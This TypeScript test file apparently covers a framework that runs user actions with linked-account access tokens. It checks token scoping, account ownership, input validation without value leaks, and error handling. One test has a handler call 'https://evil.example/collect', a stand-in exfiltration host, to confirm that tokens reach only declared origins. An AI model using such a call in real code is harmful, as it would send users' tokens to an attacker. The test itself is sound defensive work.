import { Problem } from "@joinery/contract";
import { expect, test } from "vitest";
import { z } from "zod";
import { digestOf } from "../digests.ts";
import { ISSUER } from "../testing/fake-service.ts";
import { ADA, EVE, startWorld } from "../testing/world.ts";
import { action } from "./action.ts";

const file = (user: string, body: unknown = { title: "Broken chair" }) => ({
  method: "POST",
  path: "/tickets",
  user,
  body,
});

test("an action runs as the user who pressed the button, with their token", async () => {
  const world = await startWorld();
  const tokens = world.service.issue();
  world.hub.addAccount(ADA, { ...tokens, external_account_id: "ada" });
  world.hub.addAccount(EVE, { ...world.service.issue(), external_account_id: "eve" });

  const answer = await world.call(file(ADA));

  expect(await answer.json()).toEqual({ status: 201, user: ADA, account: "ada" });
  expect(world.service.ledger.tickets).toEqual([`Bearer ${tokens.access_token}`]);
  expect(answer.headers.get("cache-control")).toBe("no-store");
});

test("someone without a linked account is told so, and nothing happens", async () => {
  const world = await startWorld();
  world.hub.addAccount(EVE, world.service.issue());

  const answer = await world.call(file(ADA));

  expect(await answer.json()).toMatchObject({ code: "NOT_CONNECTED" });
  expect(world.service.ledger.tickets).toEqual([]);
});

test("somebody else's linked account can't be named", async () => {
  const world = await startWorld();
  world.hub.addAccount(ADA, world.service.issue());
  const { linked_account_id } = world.hub.addAccount(EVE, world.service.issue());

  const answer = await world.call(file(ADA, { title: "Broken chair", linked_account_id }));

  expect(await answer.json()).toMatchObject({ code: "LINKED_ACCOUNT_NOT_FOUND" });
});

test("of several accounts the named one is used, else the newest", async () => {
  const world = await startWorld();
  const first = world.hub.addAccount(ADA, { ...world.service.issue(), external_account_id: "first" });
  world.clock.advance(1);
  world.hub.addAccount(ADA, { ...world.service.issue(), external_account_id: "second" });

  const unnamed = await world.call(file(ADA));
  const named = await world.call(file(ADA, { title: "x", linked_account_id: first.linked_account_id }));

  expect(await unnamed.json()).toMatchObject({ account: "second" });
  expect(await named.json()).toMatchObject({ account: "first" });
});

test.each(["pending", "disconnecting"] as const)("a %s account serves no action", async (state) => {
  const world = await startWorld();
  const account = world.hub.addAccount(ADA, world.service.issue());
  world.hub.accounts.set(account.linked_account_id, { ...account, state });

  expect(await (await world.call(file(ADA))).json()).toMatchObject({ code: "NOT_CONNECTED" });
});

test.each([
  ["a wrong field", { title: "" }, "title"],
  ["no object", "canary-received-value", ""],
  ["an account id that is no text", { title: "x", linked_account_id: 7 }, "linked_account_id"],
])("bad input (%s) names the field and never the value", async (_name, body, path) => {
  const world = await startWorld();

  const answer = await world.call(file(ADA, body));

  const text = await answer.text();
  expect(JSON.parse(text)).toMatchObject({ code: "BAD_REQUEST", errors: [{ path }] });
  expect(text).not.toContain("canary");
});

test("a body that is not JSON, or not called JSON, is refused", async () => {
  const world = await startWorld();
  const bh = await digestOf(new TextEncoder().encode("{"));

  const broken = await world.call({ ...file(ADA), sentBody: "{", claims: { bh } });
  const text = await world.call({ ...file(ADA), headers: { "content-type": "text/plain" } });

  expect(await broken.json()).toMatchObject({ code: "BAD_REQUEST", errors: [{ path: "", message: "must be JSON" }] });
  expect(text.status).toBe(415);
});

test("the access token goes to declared origins only", async () => {
  const elsewhere = action("POST", "/leak", z.object({}), ({ fetch }) => fetch("https://evil.example/collect"));
  const world = await startWorld({ actions: [elsewhere] });
  world.hub.addAccount(ADA, world.service.issue());

  const answer = await world.call({ method: "POST", path: "/leak", user: ADA });

  expect(answer.status).toBe(500);
  expect(world.log.some(({ fields }) => JSON.stringify(fields).includes("canary"))).toBe(false);
});

test("a handler's refusal, answer and failure each arrive as what they are", async () => {
  const world = await startWorld({
    actions: [
      action("GET", "/report", z.object({ month: z.string() }), ({ input }) => new Response(`<b>${input.month}</b>`)),
      action("POST", "/refuse", z.object({}), () => {
        throw new Problem("RATE_LIMITED", { retryAfterSeconds: 7 });
      }),
      action("POST", "/crash", z.object({}), () => {
        throw new Error("canary-secret-in-a-message");
      }),
      action("POST", "/down", z.object({}), ({ fetch }) => fetch(`${ISSUER}/api/tickets`)),
    ],
  });
  world.hub.addAccount(ADA, world.service.issue());
  const call = (method: string, path: string) => world.call({ method, path, user: ADA });

  const report = await call("GET", "/report?month=May");
  const refused = await call("POST", "/refuse");
  const crashed = await call("POST", "/crash");
  world.service.faults.set("/api/tickets", () => {
    throw new TypeError("fetch failed");
  });
  const down = await call("POST", "/down");

  expect(await report.text()).toBe("<b>May</b>");
  expect(report.headers.get("x-content-type-options")).toBe("nosniff");
  expect([refused.status, refused.headers.get("retry-after")]).toEqual([429, "7"]);
  expect(await crashed.text()).not.toContain("canary");
  expect(await down.json()).toMatchObject({ code: "EXTERNAL_SERVICE_FAILED" });
});

test.each(["/auth/x", "/linked-accounts", "/Connect/x"] as const)(
  "an action can't take the reserved path %s",
  (path) => {
    expect(() => action("POST", path, z.object({}), () => null)).toThrow(TypeError);
  },
);
